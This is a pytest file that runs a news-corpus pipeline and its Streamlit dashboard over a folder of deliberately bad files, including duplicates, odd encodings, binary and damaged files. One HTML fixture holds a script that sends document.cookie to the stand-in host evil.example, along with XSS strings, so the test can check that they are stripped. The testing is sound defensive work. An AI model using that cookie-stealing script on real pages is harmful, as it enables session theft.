"""A folder of bad files, written by the test, through a real build and into the dashboard."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from components.startup import CHECKED
from pipeline.build import BuildSummary, build_corpus
from pipeline.config import PROJECT_DIR, PipelineConfig
from pipeline.store import read_tables

pytestmark = pytest.mark.slow

LIMIT = 6000  # bytes; the size limit of this build
STORY = (
    "Border guards closed the Rabia crossing on Tuesday after a convoy of fuel tankers was attacked near "
    "the town of Sinune, Iraqi officials said. Three drivers were wounded and one tanker burned for hours "
    "before firefighters from Tal Afar reached the scene. No group claimed the attack. Traders said the "
    "closure would raise fuel prices in Mosul within days, and a council member urged Baghdad to send more "
    "troops to guard the road, which has been hit four times since spring."
)
OTHER = (
    "Farmers near Sinune said the harvest was the worst in a decade. Wheat prices in Mosul rose for the "
    "third week, traders said, while the agriculture ministry in Baghdad promised seed loans to families "
    "that lost their crops. Aid groups warned that many households could leave before winter."
)
MARKET = (
    "Café owners in Tal Afar said “enough” on Sunday after the third power cut this week. The town "
    "council blamed a damaged line near Sinjar and promised repairs before the end of the month."
)
SCHOOL = (
    "Teachers in Sinune reopened two primary schools that had been closed since the floods, the "
    "education office said. Pupils from nearby villages will be taken there by bus from Monday."
)
CLINIC = (
    "A mobile clinic run by a medical charity began visiting camps west of Mosul. Nurses said most "
    "patients came with chest infections and that medicines for children were running short."
)
BRIDGE = (
    "Engineers began repairing the old bridge over the Tigris at Hamam al-Alil. The provincial "
    "governor said lorries would have to use the northern detour until the work ends in autumn."
)
HOSTILE_HTML = """<html><head><title>Channel hacked | Example Post</title>
<script>document.title = "stolen " + document.cookie</script></head><body>
<nav>Home | World</nav><article><h1>Channel hacked</h1>
<p>The messaging channel of a militia based near Sinjar was taken over on Friday, its members said.
For several hours it showed the line &lt;img src=x onerror=alert(1)&gt; instead of its usual statements,
and later a post that read &lt;script&gt;alert(1)&lt;/script&gt; beside a photograph of the Sinjar mountains.</p>
<p>A spokesman for the group said the channel had been restored and blamed rival factions for the attack.
Analysts in Erbil said such hacks had become common as armed groups moved their propaganda online.</p>
</article><script>fetch("https://evil.example/?c=" + document.cookie)</script></body></html>"""

FILES: dict[str, bytes] = {
    "wire.txt": STORY.encode(),
    "wire-copy.txt": STORY.encode(),  # the same file twice
    "syndicated.txt": ("Tanker attack shuts Rabia crossing\n\n" + STORY.rsplit(" Traders", 1)[0]).encode(),
    "farm.md": ("# Worst harvest in a decade\n\n" + OTHER).encode(),
    "crlf.txt": MARKET.replace(". ", ".\r\n\r\n").encode(),
    "bom.txt": b"\xef\xbb\xbf" + SCHOOL.encode(),
    "windows.txt": MARKET.replace("Tal Afar", "Zakho").replace("Sinjar", "Duhok").encode("cp1252"),
    "notepad.txt": CLINIC.encode("utf-16"),
    "bridge.md": ("# The old bridge\r\n\r\n" + BRIDGE).encode(),
    "arabic.txt": "أغلق حرس الحدود معبر ربيعة يوم الثلاثاء بعد هجوم على قافلة صهاريج وقود قرب سنوني.".encode(),
    "hostile.html": HOSTILE_HTML.encode(),
    "empty.txt": b"",
    "blank.md": b"  \n\t\r\n  ",
    "rule.txt": b"----\n****\n",
    "blob.txt": bytes(range(256)) * 8,
    "huge.txt": (STORY + "\n\n") * 20,
    "script-only.html": b"<html><body><script>alert(1)</script></body></html>",
    "scan.pdf": b"%PDF-1.4 not an article",
}
FILES["huge.txt"] = FILES["huge.txt"].encode()
SIDECAR = (
    "file,outlet,published,colour\n"
    "wire.txt,Example Wire,2024-06-04,red\n"
    "wire-copy.txt,Copy Desk,2024-06-05,\n"
    "syndicated.txt,Example Post,the day after,\n"
    "ghost.txt,Nowhere,2024-01-01,\n"
    + "".join(
        f"{name},Local Desk,2024-06-0{n},\n"
        for n, name in enumerate(
            ["farm.md", "bridge.md", "crlf.txt", "bom.txt", "windows.txt", "notepad.txt", "arabic.txt", "hostile.html"],
            1,
        )
    )
)
SKIPPED = {
    "empty.txt": "file is empty or only whitespace",
    "blank.md": "file is empty or only whitespace",
    "rule.txt": "file is empty: it has no letters or digits",
    "blob.txt": "file looks binary (control bytes), not text",
    "huge.txt": f"file is {len(FILES['huge.txt']):,} bytes, over the {LIMIT:,}-byte limit; skipped",
    "script-only.html": "HTML page has no article text that trafilatura could extract",
    "scan.pdf": "PDF is damaged or no PDF (PDFSyntaxError: No /Root object! - Is this really a PDF?); skipped",
}
KEPT = {
    # doc_id: encoding, language
    "wire": ("utf-8", "en"),
    "wire-copy": ("utf-8", "en"),
    "syndicated": ("utf-8", "en"),
    "farm": ("utf-8", "en"),
    "bridge": ("utf-8", "en"),
    "crlf": ("utf-8", "en"),
    "bom": ("utf-8", "en"),
    "windows": ("cp1252", "en"),
    "notepad": ("utf-16", "en"),
    "arabic": ("utf-8", "ar"),
    "hostile": ("utf-8", "en"),
}


@pytest.fixture(scope="module")
def bad_build(tmp_path_factory) -> tuple[BuildSummary, dict, Path, Path]:
    """The bad folder built once: (summary, tables, source folder, data folder)."""
    src = tmp_path_factory.mktemp("bad-files")
    for name, data in FILES.items():
        (src / name).write_bytes(data)
    (src / "metadata.csv").write_text(SIDECAR, encoding="utf-8")
    out = src.parent / (src.name + "-data")
    config = dataclasses.replace(PipelineConfig(), max_file_bytes=LIMIT)
    summary = build_corpus(src, out, config=config)
    return summary, read_tables(out), src, out


def _problems(tables: dict, severity: str) -> dict[str, list[str]]:
    problems = tables["problems"][tables["problems"]["severity"] == severity]
    found: dict[str, list[str]] = {}
    for row in problems.itertuples():
        found.setdefault(row.source_file, []).append(row.reason)
    return found


def test_badfiles_skips_each_bad_file_with_its_reason(bad_build):
    summary, tables, _, _ = bad_build
    assert _problems(tables, "error") == {name: [reason] for name, reason in SKIPPED.items()}
    for name, reason in SKIPPED.items():
        assert f"{name}: {reason}" in summary.problems


def test_badfiles_keeps_every_readable_file_with_its_encoding_and_language(bad_build):
    _, tables, _, _ = bad_build
    documents = tables["documents"].set_index("doc_id")
    assert {doc_id: (row.encoding, row.language) for doc_id, row in documents.iterrows()} == KEPT


def test_badfiles_warns_about_caveats_by_file(bad_build):
    _, tables, _, _ = bad_build
    assert _problems(tables, "warning") == {
        "arabic.txt": ["Arabic-script text kept as a document; actors, dates and quotes are read from English only"],
        "metadata.csv": [
            "row 4 (syndicated.txt): published 'the day after' is not a date; ignored",
            "row for 'ghost.txt': no such article file",
            "unknown columns ignored: colour",
        ],
        "notepad.txt": ["decoded as utf-16, not UTF-8"],
        "windows.txt": [
            "not UTF-8: decoded as cp1252 (Western European: é read as French); if letters look wrong, save it as UTF-8"
        ],
    }


def test_badfiles_links_copies_of_one_story_and_reports_them_as_info(bad_build):
    _, tables, _, _ = bad_build
    documents = tables["documents"].set_index("doc_id")
    stories = documents.loc[["wire", "wire-copy", "syndicated", "farm"], ["story_id", "duplicate_of"]]
    assert stories.fillna("").to_dict("index") == {
        "wire": {"story_id": "wire", "duplicate_of": ""},
        "wire-copy": {"story_id": "wire", "duplicate_of": "wire"},
        "syndicated": {"story_id": "wire", "duplicate_of": "wire"},
        "farm": {"story_id": "farm", "duplicate_of": ""},
    }
    assert documents.at["wire-copy", "duplicate_score"] == 1.0
    assert 0.7 <= documents.at["syndicated", "duplicate_score"] < 1.0
    info = _problems(tables, "info")
    assert sorted(info) == ["syndicated.txt", "wire-copy.txt"]
    assert info["wire-copy.txt"][0].startswith("same story as wire.txt (100% of the shorter text")


def test_badfiles_decoded_text_is_clean(bad_build):
    _, tables, _, _ = bad_build
    text = tables["documents"].set_index("doc_id")["text"]
    assert "\r" not in text["crlf"] and "\r" not in text["bridge"]
    assert text["bom"].startswith("Teachers in Sinune")
    assert "Café owners in Zakho said “enough”" in text["windows"]
    assert "A mobile clinic" in text["notepad"]


def test_badfiles_hostile_html_keeps_its_words_as_text_and_drops_its_scripts(bad_build):
    _, tables, _, _ = bad_build
    text = tables["documents"].set_index("doc_id").at["hostile", "text"]
    assert "<img src=x onerror=alert(1)>" in text and "<script>alert(1)</script>" in text
    assert "document.cookie" not in text and "evil.example" not in text


def test_badfiles_every_offset_points_into_the_text(bad_build):
    _, tables, _, _ = bad_build
    texts = tables["documents"].set_index("doc_id")["text"]
    for name in ("mentions", "sentences", "dates", "quotes"):
        frame = tables[name]
        column = {"mentions": "surface", "sentences": "text", "dates": "text", "quotes": "quote"}[name]
        for row in frame.itertuples():
            assert texts[row.doc_id][row.start : row.end] == getattr(row, column), (name, row)
    assert not tables["mentions"].empty


@pytest.fixture
def bad_app(bad_build, monkeypatch) -> AppTest:
    """The dashboard on the bad folder's tables. The start-up check is marked done: a folder with
    skipped files reads as stale today (see test_robustness_store) and would be rebuilt."""
    monkeypatch.setenv("DASHBOARD_DATA_DIR", str(bad_build[3]))
    at = AppTest.from_file(str(PROJECT_DIR / "dashboard.py"), default_timeout=60)
    at.session_state[CHECKED] = True
    return at


def _metrics(at: AppTest) -> dict[str, str]:
    return {metric.label: metric.value for metric in at.metric}


def test_badfiles_dashboard_counts_each_story_once_when_asked(bad_app):
    bad_app.run()
    assert not bad_app.exception
    assert _metrics(bad_app)["Documents"] == str(len(KEPT))
    bad_app.toggle(key="filters_once").set_value(True).run()
    assert not bad_app.exception
    assert _metrics(bad_app)["Documents"] == str(len(KEPT) - 2)  # wire-copy and syndicated tell wire's story
    assert bad_app.query_params["once"] == "1"


def test_badfiles_dashboard_problems_view_lists_errors_first(bad_app):
    bad_app.query_params["page"] = "problems"
    bad_app.run()
    assert not bad_app.exception
    shown = bad_app.dataframe[0].value
    assert shown["severity"].tolist() == sorted(shown["severity"], key=["error", "warning", "info"].index)
    assert set(SKIPPED) <= set(shown["source_file"])
    summary = " ".join(m.value for m in bad_app.markdown)
    assert f"{len(SKIPPED)} error (skipped)" in summary and "Count each story once" in summary


def test_badfiles_dashboard_overview_survives_documents_without_outlet(bad_build):
    from components.overview import build_top_actors_chart
    from data_access import Filters, load_tables, select_view

    view = select_view(load_tables.__wrapped__(str(bad_build[3]), 0.0), Filters())
    mentions = view.mentions.assign(outlet=view.mentions["outlet"].where(view.mentions["doc_id"] != "wire"))
    build_top_actors_chart(mentions)
